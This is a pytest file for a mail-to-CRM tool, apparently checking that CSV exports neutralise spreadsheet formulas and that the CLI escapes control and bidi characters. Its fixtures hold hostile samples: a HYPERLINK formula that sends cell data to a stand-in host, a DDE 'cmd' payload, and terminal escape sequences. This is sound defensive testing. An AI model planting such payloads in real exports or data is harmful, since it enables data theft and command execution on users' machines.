"""Safe outputs: no CSV export carries a formula a spreadsheet would run, extraction never takes
formula-shaped text as a field, and control characters are stripped on the way into the store and
escaped wherever the CLI prints or exports them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from mails import CONTACT, USER, deliver, mail, props, run_worker, worker_config

from mailhook.rules.fill import Candidate
from mailhook.safe_text import csv_cell, looks_like_formula
from mailhook.store import Outcome, Received, Store
from mailhook.store.tasks import NewTask

Run = Callable[..., Result]
# Anything a terminal, a spreadsheet or a bidi-aware viewer acts on (line ends removed first).
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "street_address": '=HYPERLINK("http://ev.il/?"&A2,"Street")',
    "job_title": "-2+3+cmd|' /C calc'!A0",
    "city": "@SUM(A1:A9)",
    "state": '+HYPERLINK("http://ev.il/")',
    "postal_code": "\t=1+1",
    "country": "  =1+1",
}
PHONES = {"phone": "+493012345678", "mobile_phone": "+49 170 1234567"}
CONTROLS = {
    "first_name": "Ann\x1b]8;;http://ev.il/\x07",  # an OSC 8 hyperlink
    "last_name": "\u202enosnhoJ",  # a right-to-left override
    "city": "Oslo\x00\x9b2J",  # NUL, and a C1 CSI that clears some terminals
}


def fill(db: Path, contact: str, values: dict[str, str], *, subject: str | None = None,
         tasks: tuple[NewTask, ...] = ()) -> None:
    """Store what the worker would: the AI fills `values` on `contact` (created if missing)."""
    store = Store(db)
    message_id = f"<{len(store.filled())}.{len(store.suggestions())}@them.example>"  # a new one each time
    store.insert_received([Received(message_id.encode(), message_id, USER, "lmtp", None, (), None)])
    (item,) = store.claim(1)
    store.finish(item.id, Outcome(
        "inbound", user_email=USER, contact_email=contact, logged_on=(contact,), create=(contact,),
        scanned=True, candidates=tuple(Candidate(p, v, v, {}) for p, v in values.items()),
        subject=subject, tasks=tasks))
    store.close()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def without_line_ends(text: str) -> str:
    return text.replace("\r\n", "").replace("\n", "")


@pytest.mark.parametrize("value", [*HOSTILE.values(), "-", "+", "@ann", "=", " -1", "\r=1"])
def test_csv_cell_quotes_what_a_spreadsheet_would_run(value: str) -> None:
    """A cell starting with = + - @, tab or CR (also after spaces) gets a leading `'`."""
    assert csv_cell(value).startswith("'")


@pytest.mark.parametrize("value", [*PHONES.values(), "+1 555 0100", "Main St 1", "O'Neil", "", None, 7])
def test_csv_cell_keeps_plain_values_and_phone_numbers(value: object) -> None:
    """Plain text, E.164 phones and `+` followed only by digits and spaces stay as they are."""
    assert csv_cell(value) == value


def test_every_csv_export_neutralises_formulas_and_keeps_phones(run: Run, tmp_path: Path) -> None:
    """export filled, export filled --hubspot and export contacts --format csv (ours and HubSpot's
    columns) write no cell a spreadsheet would read as a formula; phones stay untouched."""
    fill(tmp_path / "db.sqlite", "bob@them.example", {**HOSTILE, **PHONES})
    outputs = [run("export", "filled").output, run("export", "filled", "--hubspot").output,
               run("export", "contacts", "--format", "csv").output,
               run("export", "contacts", "--format", "csv", "--hubspot").output]
    for output in outputs:
        found = cells(output)
        assert "'" + HOSTILE["street_address"] in found
        assert set(PHONES.values()) <= set(found)
        risky = [c for c in found if c not in PHONES.values()
                 and (c.startswith(FORMULA_START) or c.lstrip().startswith(FORMULA_START))]
        assert risky == []


def test_exports_escape_control_characters(run: Run, tmp_path: Path) -> None:
    """Controls and bidi overrides in the database (a raw SQL edit, an import, old mail) never
    reach an export raw: CSV and vCard show them escaped, JSON keeps the same text as \\u escapes."""
    fill(tmp_path / "db.sqlite", "bob@them.example", CONTROLS)
    for args in (("filled",), ("filled", "--hubspot"), ("contacts", "--format", "csv"),
                 ("contacts", "--format", "vcard"), ("filled", "--format", "json"),
                 ("contacts", "--format", "json")):
        output = run("export", *args).output
        assert not UNSAFE.search(without_line_ends(output)), args
    as_csv = run("export", "contacts", "--format", "csv").output
    assert "Ann\\x1b]8;;http://ev.il/\\x07" in as_csv and "\\u202enosnhoJ" in as_csv
    (contact,) = json.loads(run("export", "contacts", "--format", "json").output)
    assert {p: contact[p] for p in CONTROLS} == CONTROLS


def test_cli_escapes_control_characters_it_prints(run: Run, tmp_path: Path) -> None:
    """contacts show, contacts list, suggestions list and tasks list (text and --json) print no
    control or bidi override character raw, wherever it sits (value, subject, task title)."""
    db = tmp_path / "db.sqlite"
    Store(db).add_user(USER, None, True)
    fill(db, "bob@them.example", CONTROLS, subject="Re: \x1b[2Jquote\u202e",
         tasks=(NewTask("bob@them.example", "Call \x1b]0;owned\x07 Bob", "Call Bob.", None),))
    fill(db, "bob@them.example", {"city": "Bergen\x9b2J\u2066"})  # a suggestion: city holds a value
    commands = [("contacts", "show", "bob@them.example"), ("contacts", "list"),
                ("suggestions", "list"), ("tasks", "list")]
    for command in commands:
        for args in (command, (*command, "--json")):
            output = run(*args).output
            assert not UNSAFE.search(without_line_ends(output)), args
    shown = run("contacts", "show", "bob@them.example").output
    assert "Ann\\x1b]8;;http://ev.il/\\x07" in shown and "Re: \\x1b[2Jquote\\u202e" in shown
    assert "Call \\x1b]0;owned\\x07 Bob" in run("tasks", "list").output
    (suggestion,) = json.loads(run("suggestions", "list", "--json").output)
    assert suggestion["value"] == "Bergen\x9b2J\u2066"


def test_formula_shaped_signature_lines_are_never_filled_or_suggested(tmp_path: Path) -> None:
    """A reply whose signature holds `=HYPERLINK(...)` as its street line: it is not filled, kept
    as a candidate or suggested; the rest of the signature fills, without the bidi override its
    title line carried."""
    config = worker_config(tmp_path)
    store = Store(config.database.path)
    store.add_user(USER, "Ann Lee", inbox_automation=True)
    store.add_contact(CONTACT, {}, "import")
    signature = ("Best regards,\nBob Smith\nSales \u202eDirector\nAcme GmbH\n"
                 '=HYPERLINK("http://ev.il/?"&A2,"Street")\n10115 Berlin\nGermany\n'
                 "Tel: +49 30 1234567\n")
    body = f"Hi Ann,\n\nthanks, the quote works for us. Let us talk next week.\n\n{signature}"
    deliver(store, bytes(mail(CONTACT, USER, body, message_id="<r1@acme.example>")))
    run_worker(config, store)
    filled = props(store)
    assert filled["street_address"] is None
    assert (filled["job_title"], filled["city"], filled["phone"]) == (
        "Sales Director", "Berlin", "+49301234567")
    kept = [c["value"] for c in store.candidates(CONTACT)]
    kept += [s.value for s in store.suggestions(contact=CONTACT, status=None)]
    assert kept and not [v for v in kept if "HYPERLINK" in v or UNSAFE.search(v)]


@pytest.mark.parametrize("value", ["- Acme GmbH", "+ Sales Director", "+(49) 30 1234567", "-2.5"])
def test_a_bullet_or_a_number_is_not_taken_for_a_formula(value: str) -> None:
    """A dash before a space is a bullet and a bracketed number a phone: the value is kept (the
    CSV export still neutralises its leading sign)."""
    assert not looks_like_formula(value)
